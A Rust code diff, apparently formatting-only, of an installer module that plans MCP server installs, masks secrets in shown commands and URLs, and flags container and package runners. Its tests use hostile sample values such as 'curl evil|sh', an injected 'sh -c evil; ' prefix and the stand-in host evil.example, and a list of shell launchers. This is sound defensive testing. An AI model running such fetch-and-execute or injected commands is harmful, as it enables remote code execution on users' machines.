@@ -14,8 +14,8 @@ use super::tools::{find, is_executable, text};
 use colibri_api::BUNDLE_DIRECTORY;
 use colibri_mcp::edit::Value;
 use colibri_mcp::importers::{
-    Field, Proposal, ProposedProcess, ProposedProgram, ProposedRemote, Runs, Template, TemplateValues,
-    container_runner, looks_secret, name_says_secret, shown_url,
+    Field, Proposal, ProposedProcess, ProposedProgram, ProposedRemote, Runs, Template,
+    TemplateValues, container_runner, looks_secret, name_says_secret, shown_url,
 };
 use colibri_registry::SshTarget;
 
@@ -85,7 +85,9 @@ pub(crate) fn plan(
     let (allow, deny) = &proposal.tools;
     let rules = [("allow", allow), ("deny", deny)];
     let rules = rules.into_iter().filter(|(_, names)| !names.is_empty());
-    let rules: Vec<_> = rules.map(|(key, names)| (key.to_owned(), list(names))).collect();
+    let rules: Vec<_> = rules
+        .map(|(key, names)| (key.to_owned(), list(names)))
+        .collect();
     if !rules.is_empty() {
         members.push(("tools".to_owned(), Value::Object(rules)));
     }
@@ -107,7 +109,10 @@ impl InstallPlan {
     /// # Errors
     /// It is a container of the service, whose user is not to use what makes root of it.
     pub(crate) fn for_scope(self, scope: &InstallScope) -> anyhow::Result<InstallPlan> {
-        if let (Some(runner), true) = (self.command().and_then(container_runner), scope.is_service()) {
+        if let (Some(runner), true) = (
+            self.command().and_then(container_runner),
+            scope.is_service(),
+        ) {
             bail!(
                 "it is a container, and the service's user is not to use {runner}, which makes root of who may: add it for \
                  yourself, without --service"
@@ -164,7 +169,9 @@ impl InstallPlan {
                          command"
                     );
                 }
-                if container_runner(&command).is_some() && !args.iter().any(|arg| arg.contains("@sha256:")) {
+                if container_runner(&command).is_some()
+                    && !args.iter().any(|arg| arg.contains("@sha256:"))
+                {
                     self.notes.push(
                         "its image is what the tag names whenever it is started: @sha256:... in its name holds it to one"
                             .to_owned(),
@@ -199,7 +206,9 @@ impl InstallPlan {
             members.push(("env".to_owned(), Value::Object(env)));
         }
         if let Some(cwd) = &process.cwd {
-            let cwd = cwd.fill(&answers).map_err(|key| anyhow!("its directory needs {key}"))?;
+            let cwd = cwd
+                .fill(&answers)
+                .map_err(|key| anyhow!("its directory needs {key}"))?;
             members.push(("cwd".to_owned(), Value::String(cwd)));
         }
         Ok(members)
@@ -281,8 +290,9 @@ impl InstallPlan {
             (false, _) => url.clone(),
         }];
         if is_secret {
-            self.notes
-                .push("its address holds what looks like a secret, and stands in the registry".to_owned());
+            self.notes.push(
+                "its address holds what looks like a secret, and stands in the registry".to_owned(),
+            );
         }
         let of_this_machine = is_of_this_machine(&url);
         if url.starts_with("http://") && !of_this_machine {
@@ -386,7 +396,10 @@ fn veiled(answers: &TemplateValues) -> TemplateValues {
 /// Of an address that holds a secret, to whom it leads: that is for the person to judge, whatever is secret.
 fn origin(url: &str) -> String {
     let scheme = url.split_once("://").map_or("", |(scheme, _)| scheme);
-    let host = colibri_api::authority(url).rsplit('@').next().unwrap_or_default();
+    let host = colibri_api::authority(url)
+        .rsplit('@')
+        .next()
+        .unwrap_or_default();
     format!("{scheme}://{host}/")
 }
 
@@ -427,13 +440,18 @@ fn secret_name(id: &str, name: &str, is_taken: impl Fn(&str) -> bool) -> String 
     }
     // Of the name as it stands: another may differ from it in case or marks alone.
     let hash = colibri_registry::sha256_hex(format!("{id}-{name}"));
-    format!("{}-{}", whole[..whole.len().min(23)].trim_end_matches('-'), &hash[..8])
+    format!(
+        "{}-{}",
+        whole[..whole.len().min(23)].trim_end_matches('-'),
+        &hash[..8]
+    )
 }
 
 /// True if a command is a runner of packages, or one that starts what its arguments name, of which one is a runner.
 fn fetches(command: &str, args: &[String]) -> bool {
     let name = |word: &str| word.rsplit('/').next().unwrap_or_default().to_owned();
-    let is_runner = |word: &str| ["npx", "bunx", "pnpx", "uvx", "pipx"].contains(&name(word).as_str());
+    let is_runner =
+        |word: &str| ["npx", "bunx", "pnpx", "uvx", "pipx"].contains(&name(word).as_str());
     let starts_others = [
         "sh", "bash", "zsh", "dash", "ksh", "env", "sudo", "doas", "nohup", "nice", "timeout",
     ];
@@ -445,12 +463,14 @@ fn fetches(command: &str, args: &[String]) -> bool {
 fn told(args: &[String]) -> Vec<usize> {
     let is_secret = |at: usize| {
         let arg = &args[at];
-        let option = |word: &str| word.starts_with('-') && name_says_secret(word.trim_start_matches('-'));
+        let option =
+            |word: &str| word.starts_with('-') && name_says_secret(word.trim_start_matches('-'));
         let value_of = |arg: &str| {
             arg.split_once('=')
                 .is_some_and(|(name, value)| option(name) && !value.is_empty())
         };
-        let after = at > 0 && option(&args[at - 1]) && !args[at - 1].contains('=') && !arg.starts_with('-');
+        let after =
+            at > 0 && option(&args[at - 1]) && !args[at - 1].contains('=') && !arg.starts_with('-');
         looks_secret(arg) || value_of(arg) || after
     };
     (0..args.len()).filter(|at| is_secret(*at)).collect()
@@ -475,7 +495,10 @@ fn absolute(command: &str) -> anyhow::Result<String> {
                 "{} is not an executable file",
                 colibri_text::brief(command, 120)
             )),
-            (_, false) => Err(anyhow!("{} is not there", colibri_text::brief(command, 120))),
+            (_, false) => Err(anyhow!(
+                "{} is not there",
+                colibri_text::brief(command, 120)
+            )),
         };
     }
     let found = find(command).with_context(|| {
@@ -503,7 +526,10 @@ mod tests {
         assert_eq!(secret_name("github", "GITHUB_TOKEN"), "github-github-token");
         let long = secret_name("a-rather-long-server-id", "PERSONAL_ACCESS_TOKEN");
         assert!(colibri_registry::is_secret_name(&long), "{long}");
-        assert_ne!(long, secret_name("a-rather-long-server-id", "PERSONAL_ACCESS_TOKEM"));
+        assert_ne!(
+            long,
+            secret_name("a-rather-long-server-id", "PERSONAL_ACCESS_TOKEM")
+        );
         // One that differs in case alone has taken the plain name.
         let other = secret_name("x", "Token");
         assert!(
@@ -553,7 +579,10 @@ mod tests {
             Template(vec![TemplatePart::Text(before.to_owned()), key])
         };
         let env = [
-            ("SESSION_TOKEN_CMD", field(Template::from("curl evil|sh"), false)),
+            (
+                "SESSION_TOKEN_CMD",
+                field(Template::from("curl evil|sh"), false),
+            ),
             ("LOGIN", field(gap("sh -c evil; ", "login"), true)),
         ];
         let process = ProposedProcess {
@@ -566,7 +595,10 @@ mod tests {
                 Template::gap("key"),
                 Template::gap("place"),
             ],
-            env: env.into_iter().map(|(name, field)| (name.to_owned(), field)).collect(),
+            env: env
+                .into_iter()
+                .map(|(name, field)| (name.to_owned(), field))
+                .collect(),
             cwd: None,
         };
         let answers = [("login", "hunter2"), ("key", "hunter2"), ("place", "Bern")];
@@ -575,17 +607,35 @@ mod tests {
             .into();
         let mut proposal = Proposal::new("s", Ok(Runs::Process(Box::new(process))));
         proposal.is_foreign = true;
-        let plan_of =
-            |proposal: &Proposal| plan(proposal, "s", &answers, None, &PackageTools::new(false).unwrap()).unwrap();
+        let plan_of = |proposal: &Proposal| {
+            plan(
+                proposal,
+                "s",
+                &answers,
+                None,
+                &PackageTools::new(false).unwrap(),
+            )
+            .unwrap()
+        };
         let foreign = plan_of(&proposal);
         let evil = format!("sh -c evil; {HIDDEN}");
         assert_eq!(
             foreign.shown,
-            ["--session-token-cmd", "curl evil|sh", "--token", &evil, HIDDEN, "Bern"]
+            [
+                "--session-token-cmd",
+                "curl evil|sh",
+                "--token",
+                &evil,
+                HIDDEN,
+                "Bern"
+            ]
         );
         let secrets: Vec<_> = foreign.shown_secrets.into_iter().collect();
         let of = |name: &str, shown: &str| (name.to_owned(), shown.to_owned());
-        assert_eq!(secrets, [of("LOGIN", &evil), of("SESSION_TOKEN_CMD", "curl evil|sh")]);
+        assert_eq!(
+            secrets,
+            [of("LOGIN", &evil), of("SESSION_TOKEN_CMD", "curl evil|sh")]
+        );
         // What the person wrote is the person's secret.
         proposal.is_foreign = false;
         let own = plan_of(&proposal);
@@ -605,13 +655,21 @@ mod tests {
         ]);
         let answers = [("token".to_owned(), vec!["sesame".to_owned()])].into();
         let (headers, sse) = (BTreeMap::new(), false);
-        let mut proposal = Proposal::new("s", Ok(Runs::Remote(ProposedRemote { url, headers, sse })));
+        let mut proposal =
+            Proposal::new("s", Ok(Runs::Remote(ProposedRemote { url, headers, sse })));
         for (is_foreign, shown) in [
             (false, "https://evil.example:8/[not shown]"),
             (true, "https://evil.example:8/a/[not shown]/b?token=hunter2"),
         ] {
             proposal.is_foreign = is_foreign;
-            let plan = plan(&proposal, "s", &answers, None, &PackageTools::new(false).unwrap()).unwrap();
+            let plan = plan(
+                &proposal,
+                "s",
+                &answers,
+                None,
+                &PackageTools::new(false).unwrap(),
+            )
+            .unwrap();
             assert_eq!(plan.shown, [shown]);
         }
     }
@@ -680,7 +738,14 @@ mod tests {
 
     #[test]
     fn arguments_that_are_secrets_are_known() {
-        let args = |words: &[&str]| told(&words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>());
+        let args = |words: &[&str]| {
+            told(
+                &words
+                    .iter()
+                    .map(|word| (*word).to_owned())
+                    .collect::<Vec<_>>(),
+            )
+        };
         assert_eq!(
             args(&["--api-key", "abc", "--token=abc", "-v", "ghp_0123456789abc"]),
             [1, 2, 4]
@@ -690,15 +755,25 @@ mod tests {
 
     #[test]
     fn a_plain_command_becomes_absolute() {
-        assert!(absolute("sh").unwrap().ends_with("/sh") && absolute("sh").unwrap().starts_with('/'));
+        assert!(
+            absolute("sh").unwrap().ends_with("/sh") && absolute("sh").unwrap().starts_with('/')
+        );
         assert!(
             absolute("no-such-program-here")
                 .unwrap_err()
                 .to_string()
                 .contains("PATH")
         );
-        assert!(absolute("./x").unwrap_err().to_string().contains("relative"));
-        assert!(absolute("/no/such/program").is_err() && absolute("").unwrap_err().to_string().contains("empty"));
+        assert!(
+            absolute("./x")
+                .unwrap_err()
+                .to_string()
+                .contains("relative")
+        );
+        assert!(
+            absolute("/no/such/program").is_err()
+                && absolute("").unwrap_err().to_string().contains("empty")
+        );
         assert!(
             absolute("/etc/passwd")
                 .unwrap_err()
@@ -715,6 +790,8 @@ mod tests {
         };
         assert!(fetches(&["/usr/bin/npx", "x"]) && fetches(&["/bin/sh", "-c", "exec npx -y x"]));
         assert!(fetches(&["/usr/bin/env", "A=b", "/usr/local/bin/uvx", "x"]));
-        assert!(!fetches(&["/bin/sh", "-c", "exec x-npx"]) && !fetches(&["/usr/bin/server", "npx"]));
+        assert!(
+            !fetches(&["/bin/sh", "-c", "exec x-npx"]) && !fetches(&["/usr/bin/server", "npx"])
+        );
     }
 }
